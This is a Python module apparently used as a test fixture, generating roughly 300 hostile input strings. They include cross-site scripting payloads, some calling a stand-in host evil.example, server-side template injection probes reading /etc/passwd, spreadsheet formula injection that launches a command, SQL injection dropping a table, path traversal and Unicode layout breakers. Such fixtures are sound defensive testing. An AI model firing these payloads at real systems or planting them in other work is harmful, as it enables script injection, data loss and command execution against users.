"""Three hundred strings that would like to be more than text, to browsers, templates, databases and spreadsheets."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "window.hacked=1", "fetch('//evil.example')", "document.title='hacked'")
_OPENINGS = (
    "<script>{0}</script>", "'><script>{0}</script>", '"><script>{0}</script>', "<img src=x onerror={0}>",
    '" autofocus onfocus={0} x="', "' onmouseover={0} y='", "<svg onload={0}>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</option></select><img src=x onerror={0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href=javascript:{0}>x</a>", "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>",
    "<style>@import '//evil.example';</style>{0}", "<base href=//evil.example>{0}",
    "<form action=//evil.example><button>{0}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>{0}", "<body onload={0}>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>", "<details open ontoggle={0}>", "<video><source onerror={0}>",
    "<math><mtext><script>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<ScRiPt>{0}</sCrIpT>", "<script\x0b>{0}</script>",
    "<input autofocus onfocus={0}>",
    "<link rel=stylesheet href=//evil.example>{0}", "<object data=//evil.example>{0}",
    "<embed src=//evil.example>{0}",
    "`${{{0}}}`", "';{0};//", '";{0};//', "</script><script>{0}</script>", "<xss style=width:expression({0})>",
    "<img src='//evil.example/x.png' alt='{0}'>", "onerror={0}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ visit.session }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "{0.__class__}",
    "%s%s%s%n", "{{config}}", "{# gone #}", "{% raw %}", "{{ ''.__class__.__mro__ }}",
)  # fmt: skip
_SHEETS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("//evil.example")', "=cmd|' /C calc'!A0", "\t=1+1", "'=1+1")
_QUERIES = (
    "' or '1'='1", "'; drop table orders; --", "%", "_", "\\", "100%_\\", "{}", "{0}", "NULL", '"; --',
)  # fmt: skip
_LAYOUTS = (
    "W" * 400, "a" * 1990, "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", "Z\u0351\u036b\u0343\u036a" * 40,
    "\N{ZERO WIDTH SPACE}" * 50 + "x",
    "\N{FAMILY}" * 60, "\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645",
    "\N{HANGUL FILLER}x", "  two  blanks  ", "\ufeffmark",
    "\N{BLACK LARGE SQUARE}" * 300, "I\N{COMBINING ENCLOSING KEYCAP}", "\N{NO-BREAK SPACE}" * 30 + "y",
    "../../etc/passwd", "C:\\x\\y",
    "-", "0", "null", "undefined", "true", "NaN", "1e999", "\N{REPLACEMENT CHARACTER}", "\U0010ffff",
    "\N{SOFT HYPHEN}" * 80 + "z",
)  # fmt: skip

SCRIPTS = [opening.format(call) if "{0}" in opening else opening for opening, call in product(_OPENINGS, _CALLS)]
HOSTILE: list[str] = [
    *SCRIPTS, *_TEMPLATES, *_SHEETS, *_QUERIES, *_LAYOUTS,
    *(f"https://x.example/{text}" for text in SCRIPTS[::3]),
    *(f"https://x.example/?q={text}&a=1" for text in (*_TEMPLATES, *_QUERIES, *_SHEETS)),
]  # fmt: skip
